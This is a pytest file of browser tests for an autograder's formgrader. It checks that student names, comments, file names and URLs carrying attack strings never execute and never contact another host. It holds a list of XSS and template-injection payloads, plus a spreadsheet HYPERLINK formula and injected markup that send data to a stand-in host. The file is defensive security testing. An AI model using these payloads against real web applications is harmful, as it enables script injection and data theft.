"""A class whose names, addresses, answers, comments and file names are attacks: in no page does one of them run."""

from __future__ import annotations

import contextlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from playwright import sync_api as playwright

from autograder import paths
from autograder.grading import exports, gradebook, judge, people, store
from autograder.grading.identity import Identity
from autograder.grading.judge import Tools
from autograder.grading.people import Person
from tests import chromium

from .doubles import LocalRunner, kind_probe
from .submissions import Student

ROOT = Path(__file__).resolve().parents[2]
pytestmark = [pytest.mark.slow, pytest.mark.browser]

# Each would call ran(), which the test puts into every page, or ask another host.
PAYLOADS = [
    "<img src=x onerror=ran(1)>",
    "<svg/onload=ran(2)>",
    '"><script>ran(3)</script>',
    "</script><script>ran(4)</script>",
    '" onmouseover=ran(5) autofocus onfocus=ran(5) x="',
    "' onmouseover='ran(6)' x='",
    "javascript:ran(7)",
    "[x](javascript:ran(8)) ![p](http://192.0.2.1/p.png)",
    "{{ 7*7 }} {% raw %} ${ran(9)} {{ cycler.__init__.__globals__ }}",
    '\\"; ran(10); //',
    "`${ran(11)}` </textarea><img src=x onerror=ran(11)>",
    "Ada\u2028ran(12)\u2029 <!--",
    "\u202e<img src=//192.0.2.1/x>\u200f אדה",
    "&lt;img src=x onerror=ran(14)&gt; <style>@import'//192.0.2.1'</style>",
    "]]><iframe srcdoc='<script>parent.ran(15)</script>'>",
    '=HYPERLINK("http://192.0.2.1/"&A1;"<b onclick=ran(16)>")',
]
FILES = (".ipynb", ".html")  # answers that a browser saves, where they are not shown
IDS = [f"s{number:02}" for number in range(len(PAYLOADS))]


def named(name: str) -> str:
    """How nbgrader's pages put a name: the last word, then the others."""
    first, _, last = name.rpartition(" ")
    return f"{last}, {first or None}"


def words(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def hostile(course, lab, tmp_path, request):
    """The class, graded: all have handed in (or as many as a test says), with the payload wherever one can stand."""
    roster = [Person(id, f"Ada {text}", f"{text}@example.org") for id, text in zip(IDS, PAYLOADS, strict=True)]
    people.register(roster)
    course = people.load()
    assert people.parse_roster((paths.classroom() / "roster.csv").read_bytes(), "r") == list(course.roster.values())
    tools = Tools(course, sandbox=LocalRunner, probe=kind_probe)
    for id, text in list(zip(IDS, PAYLOADS, strict=True))[: getattr(request, "param", None)]:
        student = Student(id, course, lab)
        source = f"# {text!a}\ndef double(n):\n    return {text!r}\n"
        files = student.files(source, why=f"{text}\n\n    {text}\n\n```{text}\n{text}\n```\n")
        notebook = json.loads(files["notebook.ipynb"])
        notebook["metadata"]["title"] = text
        for cell in notebook["cells"]:
            cell["metadata"]["tags"] = [*cell["metadata"].get("tags", []), text]
        files["notebook.ipynb"] = json.dumps(notebook).encode()
        name = f"{text}.zip".replace("/", "∕")
        outcome = judge.judge(name, student.zip(tmp_path / "zips", files), tools)
        assert outcome.evidence is not None, outcome.problems
        store.record(outcome, Identity(), course, lab)
    gradebook.sync(course)
    return course


@pytest.fixture
def opened(hostile, tmp_path):
    """Its formgrader: address, session, and a function that opens a browser's context with what ran and was asked."""
    process = subprocess.Popen(
        [sys.executable, "-m", "autograder.cli", "formgrader"], cwd=tmp_path, stdout=subprocess.PIPE, text=True,
        env=os.environ | {"PYTHONPATH": os.pathsep.join([os.environ["PYTHONPATH"], str(ROOT)])},
    )  # fmt: skip
    found = re.search(r"(http://127\.0\.0\.1:\d+)(/formgrader\?token=\S+)", process.stdout.readline())
    session = requests.Session()
    session.trust_env = False
    assert session.get(found[1] + found[2]).url == f"{found[1]}/formgrader/manage_assignments"
    yield found[1], session
    process.terminate()
    process.wait(30)


class Watched:
    """A page of Chromium, and what happened in it that a payload may have done."""

    def __init__(self, browser, base, session):
        self.base = base
        self.context = chromium.context(browser)
        if session is not None:
            self.context.add_cookies([{"name": c.name, "value": c.value, "url": base} for c in session.cookies])
        self.ran: list[str] = []
        self.context.expose_function("ran", lambda *given: self.ran.append(f"{given}"))
        self.page = self.context.new_page()
        self.page.on("request", lambda r: self.note(r.url) if not r.url.startswith((base, "data:", "file:")) else None)
        self.page.on("dialog", lambda dialog: self.note(dialog.message))
        self.page.on("pageerror", lambda error: self.note(str(error)))
        self.page.on("console", lambda m: self.note(m.text) if m.type in ("error", "warning") else None)

    def note(self, text):
        self.ran.append(f"{self.page.url}: {text}")

    def goto(self, path):
        self.page.goto(f"{self.base}{path}")
        chromium.wait(self.page, "!document.querySelector('#main-table') || window.models?.loaded")

    def settled(self):
        self.page.mouse.move(300, 300)
        self.page.mouse.move(500, 420)
        self.page.wait_for_timeout(100)
        assert self.ran == []


def comment_on_all(base, session):
    """The instructor repeats each student's words in a comment; returns the pages of the submissions, by student."""
    given = {}
    for row in session.get(f"{base}/formgrader/api/submitted_notebooks/90-tiny/90-tiny").json():
        given[row["student"]] = row["id"]
        asked = {"submission_id": row["id"]}
        for comment in session.get(f"{base}/formgrader/api/comments", params=asked).json():
            text = PAYLOADS[IDS.index(row["student"])]
            saved = session.put(
                f"{base}/formgrader/api/comment/{comment['id']}",
                json={"manual_comment": text},
                headers={"X-XSRFToken": session.cookies["_xsrf"]},
            )
            assert saved.json()["manual_comment"] == text
    return given


def test_no_word_of_a_class_runs_in_a_page_and_all_names_can_be_read(opened, hostile, tmp_path):
    base, session = opened
    notebooks = comment_on_all(base, session)
    assert sorted(notebooks) == IDS
    gradebook.sync(hostile)
    with chromium.started() as browser:
        seen = Watched(browser, base, session)
        page = seen.page
        for name in ("manage_assignments", "gradebook", "gradebook/90-tiny"):
            seen.goto(f"/formgrader/{name}")
        seen.settled()

        seen.goto("/formgrader/manage_students")
        shown = {words(row) for row in page.locator("#main-table td.name").all_inner_texts()}
        assert shown >= {words(named(person.name)) for person in hostile.roster.values()}
        assert {words(row) for row in page.locator("#main-table td.email").all_inner_texts()} >= {
            words(person.email) for person in hostile.roster.values()
        }
        page.get_by_role("searchbox").fill("img")  # DataTables reads all cells again, as HTML
        for heading in page.locator("thead th").all()[:3]:
            heading.click()
        page.locator("#main-table td.edit a").first.click()
        page.locator("#edit-student-modal input.modal-last-name").wait_for()
        page.get_by_role("button", name="Cancel").click()
        page.get_by_text("Add new student").click()  # an attribute of the page's own: the policy names it
        page.locator("#add-student-modal").wait_for()
        seen.settled()

        seen.goto("/formgrader/manage_submissions/90-tiny")
        page.get_by_role("searchbox").fill("img")
        seen.settled()
        seen.goto("/formgrader/gradebook/90-tiny/90-tiny")
        page.locator("#toggle_names").click()
        assert page.locator("a.name-shown").first.is_visible()
        page.get_by_role("searchbox").fill("img")
        seen.settled()

        for id, person in hostile.roster.items():
            if id not in IDS:
                continue
            for path in (f"manage_students/{id}", f"manage_students/{id}/90-tiny"):
                seen.goto(f"/formgrader/{path}")
            seen.goto(f"/formgrader/submissions/{notebooks[id]}/")
            chromium.wait(page, "formgrader.grades?.loaded && formgrader.comments?.loaded")
            page.locator(".glyphicon-eye-open").click()
            name = page.locator("li.live-notebook a.name-shown")
            assert words(name.inner_text()) == words(named(person.name))
            name.hover()
            assert page.locator("#why-comment").input_value() == PAYLOADS[IDS.index(id)]
            assert page.locator("script:not([nonce])").count() == 0
            seen.settled()
            for path in ("autograded", "submitted"):
                seen.goto(f"/notebooks/{path}/{id}/90-tiny/90-tiny.ipynb")
            seen.settled()

            file = paths.classroom() / f"feedback/{id}/90-tiny/90-tiny.html"
            page.goto(file.as_uri())
            said = words(page.inner_text("body"))
            assert words(person.name) in said and words(f"Comment: {PAYLOADS[IDS.index(id)]}") in said
            assert page.locator("script, img, iframe, style:not(head style)").count() == 0
            seen.settled()

        made = exports.entries(hostile)
        for name, text in (("export.json", exports.as_json(made)), ("export.csv.txt", exports.as_csv(made))):
            (tmp_path / name).write_text(text, encoding="utf-8")
            page.goto((tmp_path / name).as_uri())
            seen.settled()


@pytest.mark.parametrize("hostile", [1], indirect=True)
def test_no_link_of_an_answer_leads_where_it_acts(opened, hostile, tmp_path):
    """Whatever a student links to on this very server: no word of an address runs, no other settings are loaded."""
    base, session = opened
    notebooks = comment_on_all(base, session)
    folder = tmp_path / "theirs"
    folder.mkdir()
    (folder / "nbgrader_config.py").write_text(f"open({str(tmp_path / 'loaded')!r}, 'w').close()\n")
    one = next(iter(notebooks.values()))
    ends = [
        '";ran(1);//',
        "</script><script>ran(2)</script>",
        "<img src=x onerror=ran(3)>",
        "\\",
        "';ran(4)//",
        "\u2028",
    ]
    part = [quote(end, safe="") for end in ends]
    places = [
        *("manage_students/{0}", "manage_students/{0}/{0}", "manage_students/s00/{0}", "manage_submissions/{0}"),
        *("gradebook/{0}", "gradebook/{0}/{0}", "gradebook/90-tiny/{0}", "submissions/{0}/", "submissions/{0}/next"),
        *(f"submissions/{one}/{{0}}", "{0}", "api/student/{0}", "api/notebooks/{0}", "api/grades?submission_id={0}"),
        *("api/submitted_notebooks/{0}/{0}", "api/assignment/{0}"),
    ]
    addresses = [f"/formgrader/{place.format(text)}" for place in places for text in part]
    addresses += [
        f"/{place}/{text}" for place in ("tree", "notebooks", "files", "view", "nbconvert/html") for text in part
    ]
    addresses += [f"/login?next={text}" for text in part]
    addresses += [
        *("/formgrader/api/students", "/formgrader/api/submissions/90-tiny", "/formgrader/api/assignments"),
        *(f"/formgrader/api/comments?submission_id={one}", "/formgrader/api/submitted_notebooks/90-tiny/90-tiny"),
        *(f"/{place}/submitted/s00/90-tiny/90-tiny.ipynb" for place in ("files", "nbconvert/html", "view")),
        *(f"/formgrader/submissions/{one}/90-tiny.ipynb", "/files/feedback/s00/90-tiny/90-tiny.html"),
    ]
    with chromium.started() as browser:
        seen = Watched(browser, base, session)
        for address in addresses:
            with contextlib.suppress(playwright.Error) if address.endswith(FILES) else contextlib.nullcontext():
                seen.page.goto(base + address)  # a file of another kind is saved, and then no page comes
            seen.page.wait_for_timeout(20)
    # Of the scripts in Jupyter's own pages, none of which runs here.
    said = ("Content Security Policy", "violates", "Blocked script execution", "Failed to load resource")
    assert [text for text in seen.ran if not any(word in text for word in said)] == []
    answer = session.get(f"{base}/formgrader", params={"path": str(folder)})
    assert answer.status_code == 404 and not (tmp_path / "loaded").exists()
    listed = session.get(f"{base}/formgrader/api/students")
    assert listed.headers["Content-Type"].startswith("text/plain") and len(listed.json()) >= len(IDS)


@pytest.mark.parametrize("hostile", [1], indirect=True)
def test_what_would_slip_through_runs_nothing_and_fetches_nothing(opened, hostile):
    """The second wall: markup that stands in a page does nothing; the policy knows the page's own scripts only."""
    base, session = opened
    notebooks = comment_on_all(base, session)
    markup = (
        "<img src=x onerror=ran(1)><img src=http://192.0.2.1/p.png><a id=link href='javascript:ran(2)'>link</a>"
        "<b id=over onmouseover=ran(3)>over</b><iframe srcdoc='<script>parent.ran(4)</script>'></iframe>"
        "<form id=form action=http://192.0.2.1/><button id=send>send</button></form><base href=http://192.0.2.1/>"
        "<link rel=stylesheet href=http://192.0.2.1/s.css><object data=http://192.0.2.1/o></object>"
    )
    with chromium.started() as browser:
        for path in ("manage_students", "gradebook/90-tiny/90-tiny", f"submissions/{notebooks['s00']}/"):
            seen = Watched(browser, base, session)
            gone: list[str] = []
            seen.page.on("requestfinished", lambda r, gone=gone: gone.append(r.url))
            seen.goto(f"/formgrader/{path}")
            seen.settled()
            seen.page.evaluate("text => document.body.insertAdjacentHTML('afterbegin', text)", markup)
            seen.page.evaluate(
                "() => { for (const text of ['ran(5)', '']) { const s = document.createElement('script');"
                " if (text) s.textContent = text; else s.src = '/files/feedback/x.js'; document.body.append(s); } }"
            )
            for id in ("link", "over", "send"):
                seen.page.evaluate(
                    "id => { const e = document.getElementById(id); e.dispatchEvent(new MouseEvent('mouseover'));"
                    " e.click(); }",
                    id,
                )
            seen.page.wait_for_timeout(300)
            assert not [text for text in seen.ran if text.startswith("(")], seen.ran  # what ran() was called with
            assert any("Content Security Policy" in text for text in seen.ran)
            assert not [url for url in gone if "192.0.2.1" in url or url.endswith("x.js")]
            assert seen.page.url.startswith(base)
